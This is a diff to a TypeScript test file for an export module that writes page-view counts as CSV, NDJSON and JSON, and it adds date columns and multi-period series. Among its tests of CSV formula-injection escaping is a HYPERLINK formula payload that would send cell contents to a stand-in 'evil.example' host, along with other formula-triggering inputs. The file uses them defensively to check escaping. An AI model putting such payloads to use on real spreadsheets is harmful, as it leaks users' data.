@@ -6,41 +6,58 @@ import {
   COMPARED_COLUMNS,
   createFormat,
   EXTENSIONS,
-  type ExportHeader,
   type Extension,
   type Format,
+  type PartHeader,
 } from '../../../../src/page-views/file/formats.ts'
-import { PREVIOUS_RANGE, RANGE, row } from '../example-result.ts'
+import { counts, PREVIOUS_RANGE, RANGE, row } from '../example-result.ts'
 
-const HEADER = { ...RANGE, totals: { human: 3, ai: 2, total: 5 } }
-/** The cells after the path, for any columns. */
-const HEADING = ['path', ...Object.keys(COLUMNS)].join()
-const REST = Object.values(COLUMNS)
-  .map((read) => read(row('/a')))
-  .join()
+const HEADER = { ...RANGE, totals: counts(3, 2) }
+const LATER = { dateFrom: RANGE.dateTo, dateTo: '2026-11-30T00:00:00Z', totals: counts(1) }
+const DATES = `${RANGE.dateFrom},${RANGE.dateTo}`
+const HEADING = 'dateFrom,dateTo,path,human,ai,total'
 
 /** Any code points. `unit: 'binary'` is the same, but takes seconds. */
 const anyText = fc.string({ unit: fc.nat(0x10ffff).map((code) => String.fromCodePoint(code)) })
 
 function write(extension: Extension, pages: ViewRow[][]): string {
-  return writeAs(createFormat(extension, COLUMNS), pages)
+  return writeAs(createFormat(extension, COLUMNS, false), [[HEADER, pages]])
 }
 
-function writeAs<Row>({ begin, rows, end }: Format<Row>, pages: Row[][], header: ExportHeader = HEADER) {
-  let isFirst = true
-  const parts = pages.map((page) => {
-    const text = rows(page, isFirst)
-    isFirst &&= page.length === 0
-    return text
+function writeAs<Row>(format: Format<Row>, parts: [PartHeader, Row[][]][]) {
+  const text = parts.map(([header, pages]) => {
+    return format.beginPart(header) + pages.map((page) => format.rows(page)).join('') + format.endPart()
   })
-  return begin(header) + parts.join('') + end()
+  return text.join('') + format.end()
 }
 
-test('CSV: a header and lines that end in CRLF', () => {
+test('CSV: a header and lines that end in CRLF, each with its period', () => {
   expect(write('.csv', [[row('/a', 1, 2)], [], [row('/b', 0.5)]])).toBe(
-    'path,human,ai,total\r\n/a,1,2,3\r\n/b,0.5,0,0.5\r\n',
+    `${HEADING}\r\n${DATES},/a,1,2,3\r\n${DATES},/b,0.5,0,0.5\r\n`,
   )
-  expect(write('.csv', [[]])).toBe('path,human,ai,total\r\n')
+  expect(write('.csv', [[]])).toBe(`${HEADING}\r\n`)
+})
+
+test('the parts of a series are one table in CSV and NDJSON, and an array in JSON', () => {
+  const parts: [PartHeader, ViewRow[][]][] = [
+    [HEADER, [[row('/a')], [row('/b')]]],
+    [LATER, [[]]],
+    [LATER, [[row('/a', 2)]]],
+  ]
+  const series = (extension: Extension) => writeAs(createFormat(extension, COLUMNS, true), parts)
+  const later = `${LATER.dateFrom},${LATER.dateTo}`
+  expect(series('.csv')).toBe(`${HEADING}\r\n${DATES},/a,1,0,1\r\n${DATES},/b,1,0,1\r\n${later},/a,2,0,2\r\n`)
+  const lines = series('.ndjson').trimEnd().split('\n')
+  expect(lines.map((line) => Object.values(JSON.parse(line)).slice(0, 4).join())).toEqual([
+    `${DATES},/a,1`,
+    `${DATES},/b,1`,
+    `${later},/a,2`,
+  ])
+  expect(JSON.parse(series('.json'))).toEqual([
+    { ...HEADER, views: [row('/a'), row('/b')] },
+    { ...LATER, views: [] },
+    { ...LATER, views: [row('/a', 2)] },
+  ])
 })
 
 test.each([
@@ -49,14 +66,15 @@ test.each([
   ['/a\nb', '"/a\nb"'],
   ['=1+1', "'=1+1"],
   ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
-  ['\t=1', `"'\t=1"`],
+  ['\t=1', `"'\t'=1"`],
   ['\u200b=1', "'\u200b=1"],
   ['\ufeff=1', "'\ufeff=1"],
   ['＝1', "'＝1"],
-  ['/a;=1', '"/a;=1"'],
-  ['/a\t=1', '"/a\t=1"'],
+  ['/a;=1', `"/a;'=1"`],
+  ['/a\t =1', `"/a\t '=1"`],
+  ['/a\n@b=1', `"/a\n'@b=1"`],
 ])('CSV: the path %j is written as %j', (path, cell) => {
-  expect(write('.csv', [[row(path)]])).toBe(`${HEADING}\r\n${cell},${REST}\r\n`)
+  expect(write('.csv', [[row(path)]])).toBe(`${HEADING}\r\n${DATES},${cell},1,0,1\r\n`)
 })
 
 test('CSV: any path is read back as one cell that no spreadsheet runs', () => {
@@ -65,11 +83,11 @@ test('CSV: any path is read back as one cell that no spreadsheet runs', () => {
     fc.property(fc.array(fc.oneof(anyText, tricky)), (paths) => {
       const [, ...records] = splitCells(write('.csv', [paths.map((path) => row(path))]), ',')
       expect(records.pop()).toEqual([''])
-      const cells = records.map(([cell]) => cell)
-      expect(records).toEqual(cells.map((cell) => [cell, ...REST.split(',')]))
+      const cells = records.map(([, , cell]) => cell)
+      expect(records).toEqual(cells.map((cell) => [...DATES.split(','), cell, '1', '0', '1']))
       for (const cell of cells) expect(cell).toMatch(/^(?:[^=+\-@\t\r\n＝＋－＠]|$)/u)
-      const unquoted = cells.map((cell, index) => (cell === `'${paths[index]}` ? paths[index] : cell))
-      expect(unquoted).toEqual(paths)
+      const strip = (text = '') => text.replaceAll("'", '')
+      expect(cells.map(strip)).toEqual(paths.map(strip))
     }),
   )
 })
@@ -88,8 +106,12 @@ test('JSON: one object with dates, totals and views, also without a beginning an
   expect(json).toMatchObject({ ...HEADER, views: [row('/a')] })
   expect(Object.keys(json)).toEqual(['dateFrom', 'dateTo', 'totals', 'views'])
   const { dateFrom: _, ...header } = HEADER
-  const text = writeAs(createFormat('.json', COLUMNS), [[]], header)
+  const text = writeAs(createFormat('.json', COLUMNS, false), [[header, [[]]]])
   expect(JSON.parse(text)).toEqual({ dateFrom: null, ...header, views: [] })
+  const noBeginning = (extension: Extension) =>
+    writeAs(createFormat(extension, COLUMNS, false), [[header, [[row('/a')]]]])
+  expect(noBeginning('.csv')).toContain(`\r\n,${header.dateTo},/a,1`)
+  expect(JSON.parse(noBeginning('.ndjson'))).toMatchObject({ dateFrom: null, dateTo: header.dateTo })
 })
 
 test('JSON and NDJSON: any rows in any split into pages are read back', () => {
@@ -106,19 +128,23 @@ test('JSON and NDJSON: any rows in any split into pages are read back', () => {
   )
 })
 
-test('a comparison adds columns at the end, in every format', () => {
-  const rows = [{ ...row('/a'), previous: 10, change: -9, previousHuman: 6, previousAi: 4 }]
-  const compared = (extension: Extension) => writeAs(createFormat(extension, COMPARED_COLUMNS), [rows])
-  const header = `${HEADING},previous,change,previousHuman,previousAi`
-  expect(compared('.csv')).toBe(`${header}\r\n/a,${REST},10,-9,6,4\r\n`)
-  const [first = ''] = compared('.ndjson').split('\n')
-  expect(Object.keys(JSON.parse(first)).join()).toBe(header)
-  expect(JSON.parse(first)).toMatchObject({ previous: 10, change: -9, previousHuman: 6, previousAi: 4 })
-  expect(JSON.parse(compared('.json')).views[0]).toEqual(JSON.parse(first))
+test('a comparison adds columns at the end, which are empty where the previous views are not known', () => {
+  const rows = [
+    { ...row('/a'), previous: counts(6, 4) },
+    { ...row('/b'), previous: undefined },
+  ]
   const previous = { ...PREVIOUS_RANGE, totals: HEADER.totals }
-  const json = JSON.parse(writeAs(createFormat('.json', COMPARED_COLUMNS), [rows], { ...HEADER, previous }))
+  const compared = (extension: Extension) =>
+    writeAs(createFormat(extension, COMPARED_COLUMNS, false), [[{ ...HEADER, previous }, [rows]]])
+  const columns = 'previousHuman,previousAi,previousTotal'
+  expect(compared('.csv')).toBe(`${HEADING},${columns}\r\n${DATES},/a,1,0,1,6,4,10\r\n${DATES},/b,1,0,1,,,\r\n`)
+  const [first = '', second = ''] = compared('.ndjson').split('\n')
+  expect(Object.keys(JSON.parse(first)).join()).toBe(`${HEADING},${columns}`)
+  expect(JSON.parse(second)).toMatchObject({ previousHuman: null, previousAi: null, previousTotal: null })
+  const json = JSON.parse(compared('.json'))
   expect(Object.keys(json)).toEqual(['dateFrom', 'dateTo', 'totals', 'previous', 'views'])
   expect(json).toMatchObject({ ...HEADER, previous })
+  expect(json.views[0]).toEqual({ ...row('/a'), previousHuman: 6, previousAi: 4, previousTotal: 10 })
 })
 
 test('no format contains unknown fields of a row', () => {
